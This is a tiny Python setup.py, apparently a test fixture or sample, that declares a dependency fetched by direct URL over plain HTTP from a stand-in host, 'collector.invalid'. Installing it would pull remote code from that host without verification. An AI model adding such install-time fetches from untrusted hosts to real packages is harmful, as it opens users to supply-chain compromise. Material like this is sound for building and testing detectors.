from setuptools import setup
setup(name='example', version='1.0', install_requires=['helper @ http://collector.invalid/helper.zip'])
